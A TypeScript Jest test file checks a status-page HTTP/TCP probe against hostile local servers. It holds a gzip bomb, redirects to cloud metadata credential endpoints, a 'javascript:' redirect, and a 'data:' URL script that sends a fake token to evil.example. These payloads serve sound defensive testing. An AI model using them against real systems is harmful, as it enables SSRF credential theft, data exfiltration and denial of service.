/**
 * Hostile targets, all probed together in ONE batch through the real pool and probes
 * (runBounded + defaultProbe, as runChecks does), next to two healthy checks.
 *
 * Every target is a local server this test starts on 127.0.0.1; the only other name used is
 * under `.invalid` (RFC 6761: never resolves), so no traffic leaves the machine.
 */
import * as net from 'node:net';
import * as zlib from 'node:zlib';
import {
  LocalServer, TestCertificate, freePort, makeCertificate, startHttpServer, startHttpsServer, startTcpServer,
} from './helpers/local-servers';
import { runBounded } from '../../../src/shared/runtime/bounded-pool';
import { CheckConfig, HttpCheckConfig, ProbeResult, TcpCheckConfig } from '../../../src/status-page/runtime/model';
import { MAX_BODY_BYTES } from '../../../src/status-page/runtime/probe-http';
import { defaultProbe } from '../../../src/status-page/runtime/run-checks';

jest.setTimeout(120_000);

const DAY_MS = 86_400_000;
const MiB = 1024 * 1024;
const TIMEOUT_MS = 2_000;
/** Scheduling slack allowed on top of a check's own deadline (latency is measured by the probe). */
const DEADLINE_MARGIN_MS = 1_000;
const BIG_BODY_BYTES = 100 * MiB;
const SECRET_TOKEN = 'AKIAEXAMPLESECRETTOKEN';
const SECRET_PASSWORD = 'hunter2-password';

/** One gzip member inflating to 16 MiB of zeros; 64 members in a row inflate to 1 GiB. */
const GZIP_MEMBER_INFLATED = 16 * MiB;
const GZIP_MEMBERS = 64;
const gzipMember = zlib.gzipSync(Buffer.alloc(GZIP_MEMBER_INFLATED), { level: 9 });

/** Raw TCP servers that speak something other than HTTP. */
async function startRawServer(onConnection: (socket: net.Socket) => void): Promise<LocalServer> {
  const sockets = new Set<net.Socket>();
  const stats = { inFlight: 0, maxInFlight: 0, total: 0 };
  const server = net.createServer((socket) => {
    stats.total++;
    sockets.add(socket);
    socket.once('close', () => sockets.delete(socket));
    socket.on('error', () => undefined);
    onConnection(socket);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as net.AddressInfo).port;
  return {
    port,
    origin: `http://127.0.0.1:${port}`,
    stats,
    close: () => new Promise<void>((resolve) => {
      for (const s of sockets) s.destroy();
      server.close(() => resolve());
    }),
  };
}

/** Writes `chunk` `count` times (then `tail`), respecting back-pressure, until the client goes. */
function stream(res: NodeJS.WritableStream & { destroyed: boolean }, chunk: Buffer, count: number, tail: Buffer = Buffer.alloc(0)): void {
  let sent = 0;
  const pump = () => {
    while (!res.destroyed && sent < count) {
      sent++;
      if (!res.write(chunk)) {
        res.once('drain', pump);
        return;
      }
    }
    if (!res.destroyed) res.end(tail);
  };
  res.on('error', () => undefined);
  pump();
}

const hits: Record<string, number> = {};
const servers: LocalServer[] = [];
let http: LocalServer;
let selfSignedTls: LocalServer;
let expiredTls: LocalServer;
let wrongHostTls: LocalServer;
let garbage: LocalServer;
let slam: LocalServer;
let tcpHealthy: LocalServer;
let expiredCert: TestCertificate;
let wrongHostCert: TestCertificate;
let refusedPort: number;

beforeAll(async () => {
  http = await startHttpServer((req, res) => {
    const path = new URL(req.url ?? '/', 'http://x').pathname;
    hits[path] = (hits[path] ?? 0) + 1;
    switch (path) {
      case '/ok':
        res.end('all systems go');
        return;
      case '/gzip-ok':
        // A server may compress when the request has no Accept-Encoding (RFC 9110 §12.5.3).
        res.writeHead(200, { 'content-encoding': 'gzip' }).end(zlib.gzipSync('all systems go'));
        return;
      case '/hang':
        return; // accepts, never answers
      case '/stall':
        res.writeHead(200, { 'content-type': 'text/plain' });
        res.write('first bytes of a body that never ends ');
        return; // headers and a little body, then silence
      case '/big': {
        // 100 MB, the text only at the very end (far past the first MiB).
        const chunk = Buffer.alloc(MiB, 'a');
        res.writeHead(200, { 'content-length': String(BIG_BODY_BYTES + 6) });
        stream(res, chunk, BIG_BODY_BYTES / MiB, Buffer.from('needle'));
        return;
      }
      case '/gzip-bomb':
        res.writeHead(200, { 'content-encoding': 'gzip', 'content-type': 'text/plain' });
        stream(res, gzipMember, GZIP_MEMBERS);
        return;
      case '/loop':
        res.writeHead(302, { location: '/loop' }).end();
        return;
      case '/metadata':
        res.writeHead(302, {
          location: `http://admin:${SECRET_PASSWORD}@169.254.169.254/latest/meta-data/iam/security-credentials/?X-Amz-Security-Token=${SECRET_TOKEN}#${SECRET_TOKEN}`,
        }).end();
        return;
      case '/link-local':
        res.writeHead(307, { location: `http://[fe80::a9fe:a9fe]/computeMetadata/v1/?token=${SECRET_TOKEN}` }).end();
        return;
      case '/javascript':
        res.writeHead(302, { location: 'javascript:window.__xss=1' }).end();
        return;
      case '/data-url':
        res.writeHead(301, { location: `data:text/html,<script>fetch('//evil.example/?${SECRET_TOKEN}')</script>` }).end();
        return;
      default:
        res.writeHead(404).end();
    }
  });
  servers.push(http);

  const selfSigned = makeCertificate({ days: 365 });
  // selfsigned checks what it makes against the current date: make the expired one 10 days ago.
  jest.useFakeTimers({ now: new Date(Date.now() - 10 * DAY_MS) });
  try {
    expiredCert = makeCertificate({ days: 3 });
  } finally {
    jest.useRealTimers();
  }
  wrongHostCert = makeCertificate({ days: 365, hostName: 'other.example' });
  const tlsBody = (_req: unknown, res: { end: (s: string) => void }) => res.end('secure ok');
  selfSignedTls = await startHttpsServer(selfSigned, tlsBody);
  expiredTls = await startHttpsServer(expiredCert, tlsBody);
  wrongHostTls = await startHttpsServer(wrongHostCert, tlsBody);
  servers.push(selfSignedTls, expiredTls, wrongHostTls);

  // Garbage instead of a status line: binary bytes, NULs, escape sequences.
  garbage = await startRawServer((socket) => {
    socket.once('data', () => {
      socket.end(Buffer.concat([Buffer.from([0x00, 0xff, 0x1b, 0x5b, 0x32, 0x4a, 0x07, 0xfe]), Buffer.from('\r\nNOT HTTP AT ALL\r\n\r\n')]));
    });
  });
  // Accepts and closes at once.
  slam = await startRawServer((socket) => socket.destroy());
  tcpHealthy = await startTcpServer();
  servers.push(garbage, slam, tcpHealthy);
  refusedPort = await freePort();
});

afterAll(async () => {
  await Promise.all(servers.map((s) => s.close()));
});

function httpCheck(name: string, url: string, extra: Partial<HttpCheckConfig> = {}): HttpCheckConfig {
  return { kind: 'http', name, displayName: name, url, method: 'GET', expectedStatusCodes: [200], timeoutMs: TIMEOUT_MS, ...extra };
}
function tcpCheck(name: string, port: number, host = '127.0.0.1'): TcpCheckConfig {
  return { kind: 'tcp', name, displayName: name, host, port, timeoutMs: TIMEOUT_MS };
}

interface Case {
  readonly check: CheckConfig;
  readonly outcome: ProbeResult['outcome'];
  /** The message, or a pattern it must match (undefined: no message). */
  readonly message?: string | RegExp;
}

function cases(): Case[] {
  const o = http.origin;
  return [
    // healthy
    { check: httpCheck('healthy-http', `${o}/ok`, { bodyContains: 'systems go' }), outcome: 'up' },
    { check: tcpCheck('healthy-tcp', tcpHealthy.port), outcome: 'up' },
    // hostile
    { check: httpCheck('refused', `http://127.0.0.1:${refusedPort}/`), outcome: 'down', message: `connection refused by 127.0.0.1:${refusedPort}` },
    { check: tcpCheck('refused-tcp', refusedPort), outcome: 'down', message: `connection refused by 127.0.0.1:${refusedPort}` },
    { check: httpCheck('dns', 'http://status-probe-test.invalid/'), outcome: 'down', message: /^DNS lookup (failed|timed out) for status-probe-test\.invalid$/ },
    { check: tcpCheck('dns-tcp', 443, 'status-probe-test.invalid'), outcome: 'down', message: /^DNS lookup (failed|timed out) for status-probe-test\.invalid$/ },
    { check: httpCheck('hang', `${o}/hang`), outcome: 'down', message: `timed out after ${TIMEOUT_MS} ms` },
    { check: httpCheck('stalled-body', `${o}/stall`, { bodyContains: 'never sent' }), outcome: 'down', message: `timed out after ${TIMEOUT_MS} ms` },
    { check: httpCheck('big-body', `${o}/big`, { bodyContains: 'needle', timeoutMs: 10_000 }), outcome: 'down', message: 'expected text not found in the response body' },
    { check: httpCheck('big-body-no-scan', `${o}/big`), outcome: 'up' },
    { check: httpCheck('gzip-bomb', `${o}/gzip-bomb`, { bodyContains: 'needle', timeoutMs: 10_000 }), outcome: 'down', message: 'expected text not found in the response body' },
    { check: httpCheck('gzip-ok', `${o}/gzip-ok`, { bodyContains: 'systems go' }), outcome: 'up' },
    { check: httpCheck('redirect-loop', `${o}/loop`), outcome: 'down', message: 'redirect (302) to /loop; expected 200' },
    {
      check: httpCheck('metadata-redirect', `${o}/metadata`),
      outcome: 'down',
      message: 'redirect (302) to http://169.254.169.254/latest/meta-data/iam/security-credentials/; expected 200',
    },
    {
      check: httpCheck('link-local-redirect', `${o}/link-local`),
      outcome: 'down',
      message: 'redirect (307) to http://[fe80::a9fe:a9fe]/computeMetadata/v1/; expected 200',
    },
    // A non-HTTP target is named by its scheme, not read as a garbled path ("nullwindow.__xss=1").
    { check: httpCheck('javascript-redirect', `${o}/javascript`), outcome: 'down', message: 'redirect (302) to a non-HTTP location (javascript:); expected 200' },
    { check: httpCheck('data-url-redirect', `${o}/data-url`), outcome: 'down', message: 'redirect (301) to a non-HTTP location (data:); expected 200' },
    { check: httpCheck('tls-self-signed', selfSignedTls.origin), outcome: 'down', message: /^TLS: (self-signed certificate is not trusted|certificate chain ends in an untrusted self-signed CA)$/ },
    { check: httpCheck('tls-expired', expiredTls.origin, { caCertificatesPem: expiredCert.cert }), outcome: 'down', message: 'TLS: certificate has expired' },
    { check: httpCheck('tls-wrong-host', wrongHostTls.origin, { caCertificatesPem: wrongHostCert.cert }), outcome: 'down', message: 'TLS: certificate does not match the host name' },
    { check: httpCheck('malformed-http', garbage.origin), outcome: 'down', message: `invalid HTTP response from 127.0.0.1:${garbage.port}` },
    { check: httpCheck('closes-at-once-http', slam.origin), outcome: 'down', message: new RegExp(`^connection (reset|closed) by 127\\.0\\.0\\.1:${slam.port}$`) },
    { check: tcpCheck('closes-at-once-tcp', slam.port), outcome: 'up' },
  ];
}

describe('one batch of hostile targets next to healthy ones', () => {
  let all: Case[];
  let results: ProbeResult[];
  let rssGrowth: number;

  beforeAll(async () => {
    all = cases();
    global.gc?.();
    const before = process.memoryUsage().rss;
    let peak = before;
    const sampler = setInterval(() => { peak = Math.max(peak, process.memoryUsage().rss); }, 10);
    try {
      const settled = await runBounded(all.map((c) => () => defaultProbe(c.check)), 6);
      results = settled.map((s) => {
        if (!s.ok) throw new Error(`a probe threw: ${String(s.error)}`);
        return s.value;
      });
    } finally {
      clearInterval(sampler);
    }
    peak = Math.max(peak, process.memoryUsage().rss);
    rssGrowth = peak - before;
  });

  test('every check gets the expected outcome and message', () => {
    const got = all.map((c, i) => ({ name: c.check.name, outcome: results[i].outcome, message: results[i].message }));
    for (const [i, c] of all.entries()) {
      const g = got[i];
      expect({ name: g.name, outcome: g.outcome }).toEqual({ name: c.check.name, outcome: c.outcome });
      if (c.message === undefined) expect({ name: g.name, message: g.message }).toEqual({ name: c.check.name, message: undefined });
      else if (typeof c.message === 'string') expect({ name: g.name, message: g.message }).toEqual({ name: c.check.name, message: c.message });
      else expect(g.message).toMatch(c.message);
    }
  });

  test('the healthy checks are up: the bad targets break nothing else', () => {
    expect(results[0]).toMatchObject({ outcome: 'up' });
    expect(results[1]).toMatchObject({ outcome: 'up' });
  });

  test('messages are short, printable ASCII and name no secret from a Location', () => {
    for (const r of results) {
      if (r.message === undefined) continue;
      expect(r.message.length).toBeLessThan(200);
      expect(r.message).toMatch(/^[\x20-\x7e]+$/);
      expect(r.message).not.toContain(SECRET_TOKEN);
      expect(r.message).not.toContain(SECRET_PASSWORD);
      expect(r.message).not.toContain('admin');
    }
  });

  test('redirects are never followed (each redirecting path was asked once)', () => {
    expect(hits['/loop']).toBe(1);
    expect(hits['/metadata']).toBe(1);
    expect(hits['/link-local']).toBe(1);
    expect(hits['/javascript']).toBe(1);
    expect(hits['/data-url']).toBe(1);
  });

  test('every probe ends within its own deadline (latency measured by the probe)', () => {
    for (const [i, c] of all.entries()) {
      expect({ name: c.check.name, withinDeadline: results[i].latencyMs <= c.check.timeoutMs + DEADLINE_MARGIN_MS })
        .toEqual({ name: c.check.name, withinDeadline: true });
    }
  });

  test('memory stays bounded across the 100 MB body and the 1 GiB gzip bomb', () => {
    // The bomb really is one: 64 members of 16 MiB of zeros each, about 1 MiB on the wire.
    expect(GZIP_MEMBERS * GZIP_MEMBER_INFLATED).toBe(1024 * MiB);
    expect(gzipMember.length * GZIP_MEMBERS).toBeLessThan(2 * MiB);
    expect(MAX_BODY_BYTES).toBe(MiB);
    expect(rssGrowth).toBeLessThan(150 * MiB);
  });
});
